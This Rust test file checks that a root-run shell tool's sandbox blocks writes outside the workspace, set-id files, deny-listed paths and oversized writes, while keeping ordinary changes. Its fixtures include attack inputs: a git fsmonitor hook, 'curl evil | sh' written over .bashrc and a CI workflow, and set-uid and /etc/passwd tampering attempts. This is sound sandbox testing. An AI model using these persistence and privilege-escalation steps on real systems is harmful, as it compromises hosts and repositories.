//! What `system:shell` may change, as root: nothing outside the workspace (not even
//! metadata), no set-id file anywhere, no deny-listed name at any depth or through any
//! rename, no more than the call's write budget — and, as positive controls, ordinary
//! changes inside the workspace are kept exactly.
//!
//! Every attack runs as root. Cases that need staged writes (root, overlayfs, the new
//! mount API) print `SKIPPED <case>: <reason>` and return without them.

mod common;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::time::Duration;

use _core::tools::ToolError;
use common::*;
use serde_json::{json, Value};

fn staged(f: &Fixture, case: &str) -> bool {
    let on = f.tools.status()["shell"]["enforcement"]["staged_writes"] == true;
    if !on {
        eprintln!("SKIPPED {case}: no staged writes (not root, or no overlayfs)");
    }
    on
}

/// A fixture whose allowlist includes interpreters, for attacks that need arbitrary
/// syscalls inside the sandbox (only tests take `allow_unsafe_binaries`).
fn with_python(extra: Value) -> Fixture {
    Fixture::with(|c| {
        let mut shell = json!({
            "allow": ["python3", "cp", "mv", "rm", "mkdir", "touch", "tee", "cat", "ls", "sleep"],
            "allow_unsafe_binaries": true,
        });
        if let (Some(s), Some(e)) = (shell.as_object_mut(), extra.as_object()) {
            for (k, v) in e {
                s.insert(k.clone(), v.clone());
            }
        }
        c["tools"] = json!({"shell": shell});
    })
}

fn py(f: &Fixture, script: &str) -> Value {
    f.shell(&["python3", "-c", script]).unwrap()
}

fn out(r: &Value) -> &str {
    r["stdout"].as_str().unwrap()
}

fn denied_rule(r: Result<Value, ToolError>) -> (String, String) {
    match r {
        Err(ToolError::Denied { rule, reason, .. }) => (rule, reason),
        other => panic!("expected a refusal, got {other:?}"),
    }
}

/// (mode, mtime, uid, gid) of a path, not following symlinks.
fn meta(p: &Path) -> (u32, i64, u32, u32) {
    let m = std::fs::symlink_metadata(p).unwrap();
    (m.mode(), m.mtime(), m.uid(), m.gid())
}

fn all_modes(root: &Path) -> Vec<(String, u32)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let m = std::fs::symlink_metadata(e.path()).unwrap();
            out.push((e.path().display().to_string(), m.mode()));
            if m.is_dir() {
                stack.push(e.path());
            }
        }
    }
    out
}

// ---- metadata outside the workspace -------------------------------------------------

#[test]
fn metadata_outside_the_workspace_cannot_change() {
    let f = with_python(json!({}));
    if !staged(&f, "metadata_outside_the_workspace_cannot_change") {
        return;
    }
    // Root-owned, like /root/.ssh or the project's own directory.
    let secret_dir = f.base.join("dotssh");
    std::fs::create_dir(&secret_dir).unwrap();
    std::fs::set_permissions(&secret_dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(secret_dir.join("id"), "key").unwrap();
    let target = f.outside.join("secret.txt");
    let watched = [
        f.outside.clone(),
        secret_dir.clone(),
        secret_dir.join("id"),
        target.clone(),
        f.base.clone(),
    ];
    let before: Vec<_> = watched.iter().map(|p| meta(p)).collect();
    std::fs::create_dir_all(f.ws("src/sub")).unwrap();
    std::fs::write(f.ws("src/sub/a"), "a").unwrap();
    std::fs::set_permissions(f.ws("src"), std::fs::Permissions::from_mode(0o777)).unwrap();
    let t = target.display().to_string();
    let d = secret_dir.display().to_string();
    for argv in [
        vec!["touch", "-c", "-d", "@86400", t.as_str()],
        vec!["touch", "-c", t.as_str()],
        vec!["touch", "-c", "-m", d.as_str()],
        vec!["cp", "-rT", "--preserve=mode,timestamps", "src", d.as_str()],
        vec![
            "cp",
            "--attributes-only",
            "--preserve=all",
            "src/sub/a",
            t.as_str(),
        ],
        vec!["mv", "src/sub/a", t.as_str()],
    ] {
        let r = f.shell(&argv).unwrap();
        assert_ne!(r["exit_code"], 0, "{argv:?} succeeded: {r}");
    }
    // Straight syscalls, as the owner of every root-owned inode.
    let r = py(
        &f,
        &format!(
            r#"
import os
results = []
for name, fn in [
    ("chmod", lambda: os.chmod({t:?}, 0o777)),
    ("chmod_dir", lambda: os.chmod({d:?}, 0o777)),
    ("utime", lambda: os.utime({t:?}, (1, 1))),
    ("utime_now", lambda: os.utime({t:?})),
    ("chown", lambda: os.chown({t:?}, 1000, 1000)),
    ("lchown", lambda: os.lchown({d:?}, 1000, -1)),
    ("setxattr", lambda: os.setxattr({t:?}, "user.x", b"1")),
    ("truncate", lambda: os.truncate({t:?}, 0)),
    ("fchmod_ro_fd", lambda: os.fchmod(os.open("/etc/passwd", os.O_RDONLY), 0o666)),
    ("utime_etc", lambda: os.utime("/etc/passwd", (1, 1))),
    ("chmod_usr", lambda: os.chmod("/usr/bin/cat", 0o4777)),
]:
    try:
        fn()
        results.append(name + " OK")
    except OSError as e:
        results.append(name + " " + str(e.errno))
print("\n".join(results))
"#
        ),
    );
    let text = out(&r);
    assert_eq!(text.lines().count(), 11, "{r}");
    assert!(!text.contains(" OK"), "a metadata call succeeded: {text}");
    let after: Vec<_> = watched.iter().map(|p| meta(p)).collect();
    assert_eq!(before, after, "metadata outside changed");
    f.assert_outside_untouched();
    let passwd = std::fs::metadata("/etc/passwd").unwrap();
    assert_eq!(passwd.mode() & 0o7777, 0o644);
    // /dev/null stays writable (read-only mounts do not stop device writes).
    let r = f.shell(&["tee", "/dev/null"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
}

// ---- set-id files -------------------------------------------------------------------

#[test]
fn no_call_creates_a_set_id_file_or_directory() {
    let f = with_python(json!({}));
    if !staged(&f, "no_call_creates_a_set_id_file_or_directory") {
        return;
    }
    // The red team's recipe: a copy of a binary given su's set-uid mode.
    let r = f.shell(&["cp", "/usr/bin/cat", "mycat"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
    let su = [
        "/usr/bin/su",
        "/bin/su",
        "/usr/bin/passwd",
        "/usr/bin/mount",
    ]
    .into_iter()
    .find(|p| Path::new(p).exists() && std::fs::metadata(p).unwrap().mode() & 0o4000 != 0);
    if let Some(su) = su {
        for argv in [
            vec!["cp", "--attributes-only", "--preserve=mode", su, "mycat"],
            vec!["cp", "-p", su, "su-copy"],
            vec!["cp", "-a", su, "su-copy2"],
        ] {
            // cp reports that it could not preserve the mode; either way no set-id bit.
            let r = f.shell(&argv).unwrap();
            assert!(r["exit_code"].is_number(), "{argv:?}: {r}");
        }
    }
    let r = f.shell(&["cp", "/usr/bin/python3", "py"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
    // Every syscall that takes a mode.
    let r = py(
        &f,
        r#"
import os
res = []
def t(name, fn):
    try:
        fn(); res.append(name + " OK")
    except OSError as e:
        res.append(name + " " + str(e.errno))
t("chmod", lambda: os.chmod("py", 0o4755))
t("chmod_g", lambda: os.chmod("py", 0o2755))
t("fchmod", lambda: os.fchmod(os.open("py", os.O_RDONLY), 0o6755))
t("open_creat", lambda: os.close(os.open("new1", os.O_CREAT | os.O_WRONLY, 0o4755)))
t("mkdir", lambda: os.mkdir("d1", 0o2775))
t("mknod", lambda: os.mknod("new2", 0o104755))
t("chmod_dir", lambda: (os.mkdir("d2"), os.chmod("d2", 0o2777)))
print("\n".join(res))
"#,
    );
    let text = out(&r);
    for name in ["chmod", "chmod_g", "fchmod", "open_creat", "mkdir", "mknod"] {
        let line = text
            .lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap_or_else(|| panic!("{name}: {r}"));
        assert!(line.ends_with(" 1"), "{line} (want EPERM)");
    }
    for (path, mode) in all_modes(&f.root) {
        assert_eq!(mode & 0o6000, 0, "{path} has a set-id bit: {mode:o}");
    }
    // An unprivileged user gains nothing from what the sandbox wrote.
    let py_copy = f.ws("py");
    assert!(py_copy.exists());
    let child = std::process::Command::new(&py_copy)
        .args(["-c", "import os; print(os.geteuid(), os.getegid())"])
        .env_clear()
        .uid(65534)
        .gid(65534)
        .output();
    let child = child.unwrap();
    assert_eq!(
        String::from_utf8_lossy(&child.stdout).trim(),
        "65534 65534",
        "{child:?}"
    );
}

// ---- names the deny list protects, at any depth -------------------------------------

#[test]
fn deny_listed_names_are_refused_at_any_depth_and_nothing_is_kept() {
    let f = Fixture::new();
    if !staged(
        &f,
        "deny_listed_names_are_refused_at_any_depth_and_nothing_is_kept",
    ) {
        return;
    }
    std::fs::create_dir_all(f.ws(".git/modules/sub")).unwrap();
    std::fs::write(f.ws(".git/config"), "[core]\n").unwrap();
    std::fs::write(f.ws("evil"), "[core]\n\tfsmonitor = touch /tmp/pwned\n").unwrap();
    std::fs::create_dir_all(f.ws("tree/app")).unwrap();
    std::fs::write(f.ws("tree/app/.env"), "KEY=1").unwrap();
    std::fs::write(f.ws("tree/app/main.py"), "x").unwrap();
    for argv in [
        vec!["cp", "evil", ".git/commondir"],
        vec!["cp", "evil", ".git/modules/sub/config"],
        vec!["cp", "evil", ".git/config"],
        vec!["mkdir", "-p", "nested/repo/.git"],
        vec!["cp", "evil", ".gitconfig"],
        vec!["cp", "evil", ".envrc"],
        vec!["mkdir", "-p", "deep/a/b/c/.ssh"],
        vec!["cp", "-r", "tree", "copy"],
        vec!["mv", ".git", "old-git"],
        vec!["rm", "-rf", ".git"],
        vec!["rm", "-rf", "tree"],
        vec!["tee", "-a", ".git/config"],
    ] {
        let (rule, reason) = denied_rule(f.shell(&argv));
        assert_eq!(rule, "deny_write", "{argv:?}: {reason}");
        assert!(reason.contains("none of its changes"), "{reason}");
    }
    // Nothing of those calls was kept: not the refused path, not the rest.
    for p in [
        ".git/commondir",
        ".git/modules/sub/config",
        "nested",
        ".gitconfig",
        ".envrc",
        "deep",
        "copy",
        "old-git",
    ] {
        assert!(!f.ws(p).exists(), "{p} was kept");
    }
    assert_eq!(
        std::fs::read_to_string(f.ws(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(f.ws("tree/app/main.py").exists() && f.ws("tree/app/.env").exists());
    assert!(!Path::new("/tmp/pwned").exists());
}

#[test]
fn a_workspace_root_without_git_cannot_become_a_repository() {
    let f = Fixture::new();
    if !staged(
        &f,
        "a_workspace_root_without_git_cannot_become_a_repository",
    ) {
        return;
    }
    std::fs::write(f.ws("HEAD"), "ref: refs/heads/main\n").unwrap();
    for argv in [
        vec!["mkdir", ".git"],
        vec!["cp", "HEAD", ".git"],
        vec!["mkdir", "-p", ".git/objects", ".git/refs"],
    ] {
        let (rule, _) = denied_rule(f.shell(&argv));
        assert_eq!(rule, "deny_write", "{argv:?}");
        assert!(!f.ws(".git").exists());
    }
}

#[test]
fn protection_has_no_count_limit() {
    // 70 existing deny-listed files (more than any fixed table) and then the one that
    // matters: every one of them stays protected.
    let f = Fixture::new();
    if !staged(&f, "protection_has_no_count_limit") {
        return;
    }
    for i in 0..70 {
        std::fs::create_dir_all(f.ws(&format!("d{i}"))).unwrap();
        std::fs::write(f.ws(&format!("d{i}/.envrc")), "x").unwrap();
        std::fs::write(f.ws(&format!(".env.{i}")), "x").unwrap();
    }
    std::fs::write(f.ws(".bashrc"), "# rc\n").unwrap();
    std::fs::write(f.ws("evil"), "curl evil | sh\n").unwrap();
    let (rule, _) = denied_rule(f.shell(&["cp", "evil", ".bashrc"]));
    assert_eq!(rule, "deny_write");
    let (rule, _) = denied_rule(f.shell(&["cp", "evil", "d69/.envrc"]));
    assert_eq!(rule, "deny_write");
    // A call that creates 70 more first, then overwrites.
    let mut argv = vec!["mkdir".to_string()];
    argv.extend((0..70).map(|i| format!("n{i}/.ssh")));
    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
    let _ = f.shell(&args);
    assert_eq!(std::fs::read_to_string(f.ws(".bashrc")).unwrap(), "# rc\n");
    assert_eq!(std::fs::read_to_string(f.ws("d69/.envrc")).unwrap(), "x");
}

#[test]
fn renaming_an_ancestor_does_not_replace_a_protected_path() {
    let f = Fixture::with(|c| {
        c["tools"] = json!({"fs": {"deny_write": [".github/workflows", "config/prod/keys"]}})
    });
    if !staged(&f, "renaming_an_ancestor_does_not_replace_a_protected_path") {
        return;
    }
    std::fs::create_dir_all(f.ws(".github/workflows")).unwrap();
    std::fs::write(f.ws(".github/workflows/ci.yml"), "safe").unwrap();
    std::fs::create_dir_all(f.ws("config/prod/keys")).unwrap();
    std::fs::write(f.ws("config/prod/keys/k"), "k").unwrap();
    std::fs::create_dir_all(f.ws("evil/workflows")).unwrap();
    std::fs::write(f.ws("evil/workflows/ci.yml"), "curl evil | sh").unwrap();
    for argv in [
        vec!["mv", ".github", "gh-old"],
        vec!["mv", "config", "c2"],
        vec!["mv", "config/prod", "config/p2"],
        vec!["rm", "-rf", ".github"],
        vec!["cp", "-rT", "evil", ".github"],
        vec!["mkdir", "-p", ".github/workflows/new"],
        vec!["cp", "evil/workflows/ci.yml", ".github/workflows/ci.yml"],
    ] {
        let (rule, reason) = denied_rule(f.shell(&argv));
        assert_eq!(rule, "deny_write", "{argv:?}: {reason}");
    }
    assert_eq!(
        std::fs::read_to_string(f.ws(".github/workflows/ci.yml")).unwrap(),
        "safe"
    );
    assert!(f.ws("config/prod/keys/k").exists() && !f.ws("c2").exists());
    // Renaming something unrelated still works.
    let r = f.shell(&["mv", "evil", "harmless"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
    assert!(f.ws("harmless/workflows/ci.yml").exists() && !f.ws("evil").exists());
}

// ---- budget -------------------------------------------------------------------------

#[test]
fn a_call_has_a_total_write_budget() {
    let f = with_python(
        json!({"limits": {"write_bytes": 4 << 20, "file_size_bytes": 1 << 20, "write_files": 64}}),
    );
    if !staged(&f, "a_call_has_a_total_write_budget") {
        return;
    }
    std::fs::create_dir_all(f.ws("big")).unwrap();
    for i in 0..8 {
        std::fs::write(f.ws(&format!("big/{i}")), vec![7u8; 1 << 20]).unwrap();
    }
    let before = dir_bytes(&f.root);
    // One cp -r of 8 MiB: each file is under the per-file cap, the total is not.
    let r = f.shell(&["cp", "-r", "big", "copy"]).unwrap();
    assert_ne!(r["exit_code"], 0, "{r}");
    assert!(
        r["stderr"].as_str().unwrap().contains("No space left"),
        "{r}"
    );
    let added = dir_bytes(&f.root) - before;
    assert!(added <= 4 << 20, "the call added {added} bytes");
    // Many small writers at once in one call.
    let r = py(
        &f,
        "import os\nn=0\ntry:\n    while True:\n        open(f'f{n}','wb').write(b'x'*65536); n+=1\nexcept OSError as e:\n    print(n, e.errno)",
    );
    let added = dir_bytes(&f.root) - before;
    assert!(added <= 8 << 20, "{added} {r}");
    // Files: the inode budget.
    let mut argv = vec!["mkdir".to_string()];
    argv.extend((0..200).map(|i| format!("m{i}")));
    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
    let r = f.shell(&args).unwrap();
    assert_ne!(r["exit_code"], 0, "{r}");
    let made = (0..200).filter(|i| f.ws(&format!("m{i}")).exists()).count();
    assert!(made > 0 && made < 64, "{made} directories kept");
}

fn dir_bytes(root: &Path) -> u64 {
    let mut n = 0;
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let m = e.as_ref().unwrap().metadata().unwrap();
            if m.is_dir() {
                stack.push(e.unwrap().path());
            } else {
                n += m.len();
            }
        }
    }
    n
}

// ---- what is kept -------------------------------------------------------------------

#[test]
fn ordinary_changes_are_kept_exactly() {
    let f = with_python(json!({}));
    if !staged(&f, "ordinary_changes_are_kept_exactly") {
        return;
    }
    std::fs::create_dir_all(f.ws("old/deep")).unwrap();
    std::fs::write(f.ws("old/deep/x"), "x").unwrap();
    std::fs::write(f.ws("keep.txt"), "keep").unwrap();
    std::fs::write(f.ws("gone.txt"), "gone").unwrap();
    std::fs::write(f.ws("edit.txt"), "v1").unwrap();
    std::fs::set_permissions(f.ws("edit.txt"), std::fs::Permissions::from_mode(0o640)).unwrap();
    std::fs::create_dir_all(f.ws("swap")).unwrap();
    std::fs::write(f.ws("swap/inner"), "i").unwrap();
    std::os::unix::fs::symlink("keep.txt", f.ws("link")).unwrap();
    let r = py(
        &f,
        r#"
import os, shutil
open("new.txt", "w").write("new")
os.chmod("new.txt", 0o750)
open("edit.txt", "a").write("+v2")
os.unlink("gone.txt")
os.makedirs("made/a/b")
open("made/a/b/f", "w").write("f")
shutil.move("old", "renamed")  # rename(2) of a directory is EXDEV: moved by copying
os.utime("keep.txt", (1000000000, 1000000000))
shutil.rmtree("swap"); open("swap", "w").write("now a file")
os.utime("link", (5, 5), follow_symlinks=False)  # copies the symlink up
print("done")
"#,
    );
    assert_eq!(out(&r), "done\n", "{r}");
    assert_eq!(std::fs::read_to_string(f.ws("new.txt")).unwrap(), "new");
    assert_eq!(
        std::fs::metadata(f.ws("new.txt")).unwrap().mode() & 0o7777,
        0o750
    );
    assert_eq!(std::fs::read_to_string(f.ws("edit.txt")).unwrap(), "v1+v2");
    assert_eq!(
        std::fs::metadata(f.ws("edit.txt")).unwrap().mode() & 0o7777,
        0o640
    );
    assert!(!f.ws("gone.txt").exists());
    assert_eq!(std::fs::read_to_string(f.ws("made/a/b/f")).unwrap(), "f");
    assert!(!f.ws("old").exists());
    assert_eq!(
        std::fs::read_to_string(f.ws("renamed/deep/x")).unwrap(),
        "x"
    );
    assert_eq!(
        std::fs::metadata(f.ws("keep.txt")).unwrap().mtime(),
        1_000_000_000
    );
    assert_eq!(std::fs::read_to_string(f.ws("swap")).unwrap(), "now a file");
    assert_eq!(
        std::fs::read_link(f.ws("link")).unwrap(),
        Path::new("keep.txt")
    );
    assert!(r["changes"]["files"].as_u64().unwrap() >= 5, "{r}");
    // A directory replaced by a fresh one keeps only the new contents.
    std::fs::create_dir_all(f.ws("r")).unwrap();
    std::fs::write(f.ws("r/old"), "o").unwrap();
    let r = py(
        &f,
        "import shutil, os\nshutil.rmtree('r'); os.mkdir('r'); open('r/new','w').write('n')",
    );
    assert_eq!(r["exit_code"], 0, "{r}");
    assert!(!f.ws("r/old").exists() && f.ws("r/new").exists());
    // No temp or overlay residue.
    let names: Vec<String> = std::fs::read_dir(&f.root)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !names
            .iter()
            .any(|n| n.starts_with(".loom-tmp") || n == "work"),
        "{names:?}"
    );
}

#[test]
fn a_call_that_times_out_changes_nothing() {
    let f = with_python(json!({}));
    if !staged(&f, "a_call_that_times_out_changes_nothing") {
        return;
    }
    std::fs::write(f.ws("a.txt"), "before").unwrap();
    let r = f.call_t(
        "system:shell",
        json!({"argv": ["python3", "-c", "import time\nopen('a.txt','w').write('after')\nopen('b.txt','w').write('b')\ntime.sleep(30)"]}),
        Duration::from_millis(1500),
    );
    match r {
        Err(ToolError::Timeout { detail, .. }) => {
            assert!(detail.contains("discarded"), "{detail}")
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(std::fs::read_to_string(f.ws("a.txt")).unwrap(), "before");
    assert!(!f.ws("b.txt").exists());
}

#[test]
fn a_hard_link_placed_from_outside_is_not_written_through() {
    let f = Fixture::new();
    if !staged(&f, "a_hard_link_placed_from_outside_is_not_written_through") {
        return;
    }
    std::fs::hard_link(f.outside.join("secret.txt"), f.ws("linked")).unwrap();
    let (rule, reason) = denied_rule(f.shell(&["tee", "-a", "linked"]));
    assert_eq!(rule, "hard_link");
    assert!(reason.contains("none of its changes"), "{reason}");
    std::fs::write(f.ws("other"), "overwrite").unwrap();
    let (rule, _) = denied_rule(f.shell(&["cp", "other", "linked"]));
    assert_eq!(rule, "hard_link");
    f.assert_outside_untouched();
}

#[test]
fn concurrent_calls_each_keep_their_changes() {
    let f = Fixture::new();
    if !staged(&f, "concurrent_calls_each_keep_their_changes") {
        return;
    }
    std::thread::scope(|s| {
        for i in 0..8 {
            let f = &f;
            s.spawn(move || {
                let name = format!("t{i}/file");
                let r = f.shell(&["mkdir", &format!("t{i}")]).unwrap();
                assert_eq!(r["exit_code"], 0, "{r}");
                let r = f.shell(&["touch", &name]).unwrap();
                assert_eq!(r["exit_code"], 0, "{r}");
            });
        }
    });
    for i in 0..8 {
        assert!(f.ws(&format!("t{i}/file")).exists(), "t{i}");
    }
}

#[test]
fn concurrent_calls_share_a_total_staging_budget() {
    // Staging is memory: with write_bytes_total = write_bytes, calls run one at a time,
    // and one that cannot get its share within its timeout fails without running.
    let f = with_python(json!({"limits": {"write_bytes": 4 << 20, "write_bytes_total": 4 << 20}}));
    if !staged(&f, "concurrent_calls_share_a_total_staging_budget") {
        return;
    }
    let start = std::time::Instant::now();
    std::thread::scope(|s| {
        for i in 0..2 {
            let f = &f;
            s.spawn(move || {
                let r = f.shell(&["sleep", "0.6"]).unwrap();
                assert_eq!(r["exit_code"], 0, "{i}: {r}");
            });
        }
    });
    let both = start.elapsed();
    assert!(
        both >= Duration::from_millis(1150),
        "they overlapped: {both:?}"
    );
    // One holds the budget; another with a short timeout gives up without running.
    std::thread::scope(|s| {
        let f = &f;
        s.spawn(move || f.shell(&["sleep", "1"]).unwrap());
        std::thread::sleep(Duration::from_millis(200));
        let r = f.call_t(
            "system:shell",
            json!({"argv": ["touch", "ran"]}),
            Duration::from_millis(300),
        );
        match r {
            Err(ToolError::Timeout { detail, .. }) => {
                assert!(detail.contains("write_bytes_total"), "{detail}")
            }
            other => panic!("{other:?}"),
        }
    });
    assert!(!f.ws("ran").exists(), "a call that got no budget ran");
    // With room for two, they overlap.
    let g = with_python(json!({"limits": {"write_bytes": 4 << 20, "write_bytes_total": 8 << 20}}));
    let start = std::time::Instant::now();
    std::thread::scope(|s| {
        for _ in 0..2 {
            let g = &g;
            s.spawn(move || g.shell(&["sleep", "0.6"]).unwrap());
        }
    });
    assert!(
        start.elapsed() < Duration::from_millis(1100),
        "{:?}",
        start.elapsed()
    );
}
